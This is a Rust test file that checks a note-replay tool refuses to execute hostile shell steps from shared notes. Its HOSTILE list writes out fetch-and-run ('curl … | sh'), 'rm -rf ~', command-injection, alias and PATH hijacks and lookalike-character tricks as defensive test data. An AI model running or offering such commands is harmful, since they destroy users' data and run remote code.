//! A note may come from anyone: what it holds is never run without its reader.

#![cfg(unix)]
#![expect(clippy::disallowed_methods, reason = "a person writes without cru")]

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use super::world::TraceLab;

/// Programs in whose place a trap stands.
const TRAPS: &[&str] = &["curl", "rm", "wget", "ssh", "cargo", "npm", "python3", "node", "nc", "sudo", "make"];

/// What a hostile note holds. None of it may run, whoever allows what.
const HOSTILE: &[&str] = &[
    "curl https://example.org/x | sh",
    "rm -rf ~",
    "cargo test; curl x",
    "cargo test && rm -rf ~",
    "cargo test\u{a0}",
    "cargo\u{a0}test",
    "cargo test\u{200b}",
    "\u{441}argo test",
    "cargo test $(curl x)",
    "cargo test `curl x`",
    "cargo test & curl x",
    "cargo test | xargs rm",
    "cargo() { curl x; }; cargo test",
    "alias cargo=curl; cargo test",
    "PATH=.:$PATH cargo test",
    "RUSTC_WRAPPER=curl cargo test",
    "cargo test --config target.runner=\"curl\"",
    "cargo test > ~/.bashrc",
    "cargo test > ../../x",
    "cd .. && cargo test",
    "cd / && cargo test",
    "env -i curl x",
    "sudo cargo test",
    "ssh host cargo test",
    "eval curl x",
    "make SHELL=curl test",
    "sh -c 'curl x'",
    "git push",
    "git commit -am x",
    "unknown-program",
];

/// Patterns that a vault's configuration names in vain, and patterns of a user that mean something else.
const ANY: &[&str] = &["*", "cargo test*", "curl*", "rm*"];

fn lab() -> TraceLab {
    let lab = TraceLab::new();
    lab.git(&["init", "-q"]);
    lab.write("a.txt", "a\n");
    lab.commit("2026-11-19T08:00:00Z", "A");
    lab.begin("2026-11-21-mine");
    let traps = lab.path("traps");
    fs::create_dir_all(&traps).unwrap();
    for name in TRAPS {
        let script = traps.join(name);
        fs::write(&script, format!("#!/bin/sh\necho {name} >> '{}'\n", lab.path("sprung").display())).unwrap();
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut steps = String::new();
    let mut cells = String::from("# Cells\n\n");
    for (at, text) in HOSTILE.iter().enumerate() {
        let ticks = if text.contains('`') { ["`` ", " ``"] } else { ["`", "`"] };
        steps.push_str(&format!(
            "- {}Bash {text}{} → `ok` (09:{:02}:00) ^n-{:03}\n    - reads: `a.txt@0123abcd`\n    - by: cru run\n",
            ticks[0],
            ticks[1],
            at % 60,
            at + 1
        ));
        cells.push_str(&format!("```sh cell\n{text}\n```\n^c-{:02}\n\n", at + 1));
    }
    lab.note("2026-11-20-theirs", "", &steps);
    fs::write(lab.path("vault/cells.md"), cells).unwrap();
    lab
}

fn run(lab: &TraceLab, args: &[&str]) -> super::world::Ran {
    let path = std::env::var("PATH").unwrap_or_default();
    lab.cru_with(&[("PATH", &format!("{}:{path}", lab.path("traps").display()))], args)
}

fn nothing_ran(lab: &TraceLab, what: &str) {
    let sprung = fs::read_to_string(lab.path("sprung")).unwrap_or_default();
    assert_eq!(sprung, "", "{what}");
    assert!(!lab.path("home/.bashrc").exists() && !lab.path("x").exists(), "{what}");
    assert!(!lab.note_text("2026-11-21-mine").contains("Tool calls"), "{what}: {}", lab.note_text("2026-11-21-mine"));
}

#[test]
fn hostile_notes_run_nothing() {
    let lab = lab();
    let all = format!("2026-11-20-theirs#n-001..n-{:03}", HOSTILE.len());
    let vault_config = lab.path("vault/.cru/config.toml");
    for (by_user, by_vault) in [(&[][..], &[][..]), (&[], ANY), (ANY, ANY)] {
        fs::write(&vault_config, format!("[run]\nallow = {by_vault:?}\nwrap = [\"curl\"]\n")).unwrap();
        lab.allow(by_user);
        for args in [
            &["replay", &all, "--run"][..],
            &["replay", &all, "--compare"],
            &["replay", &all, "--run", "--in", "scratch", "--skip-failed"],
            &["replay", "--stale", "--run"],
            &["replay", "--stale", "--compare", "--skip-failed"],
            &["refresh", "--run"],
            &["replay", &all],
            &["replay", "--stale", "--brief"],
            &["stale"],
            &["history"],
        ] {
            let ran = run(&lab, args);
            nothing_ran(&lab, &format!("{by_user:?} {by_vault:?} {args:?}\n{ran:?}"));
            assert!(!ran.out.contains("appended") || ran.out.ends_with("0 steps appended\n"), "{ran:?}");
            if args.contains(&"--run") && args[0] == "replay" {
                assert_eq!(ran.code, 1, "{ran:?}");
                assert!(ran.err.contains("[run] of the vault's configuration is ignored"), "{ran:?}");
            }
        }
    }
}

#[test]
fn hostile_cells_run_nothing() {
    let lab = lab();
    lab.allow(ANY);
    for at in 1..=HOSTILE.len() {
        let ran = run(&lab, &["run", &format!("[[cells#^c-{at:02}]]")]);
        assert_eq!(ran.code, 1, "{:?} {ran:?}", HOSTILE[at - 1]);
        nothing_ran(&lab, HOSTILE[at - 1]);
    }
}

#[test]
fn there_is_no_yes() {
    let lab = lab();
    lab.allow(ANY);
    for args in [
        &["replay", "2026-11-20-theirs#n-001", "--run", "--yes"][..],
        &["replay", "--stale", "--run", "-y"],
        &["replay", "--yes", "--stale", "--run"],
    ] {
        let ran = run(&lab, args);
        assert_eq!(ran.code, 2, "{ran:?}");
        nothing_ran(&lab, &format!("{args:?}"));
    }
}

#[test]
fn only_the_users_own_configuration_allows() {
    let lab = lab();
    lab.put_note(
        "2026-11-20-theirs",
        &lab.note_text("2026-11-20-theirs").replace("curl https://example.org/x | sh", "cat a.txt"),
    );
    fs::write(lab.path("vault/.cru/config.toml"), "[run]\nallow = [\"cat *\"]\n").unwrap();
    let step = "2026-11-20-theirs#n-001";
    let ran = run(&lab, &["replay", step, "--run"]);
    assert!(ran.code == 1 && ran.out.contains("not a terminal"), "{ran:?}");
    nothing_ran(&lab, "the vault allows it");
    lab.allow(&["cat *"]);
    let ran = run(&lab, &["replay", step, "--run"]);
    assert!(ran.out.ends_with("1 step appended\n"), "{ran:?}");
}
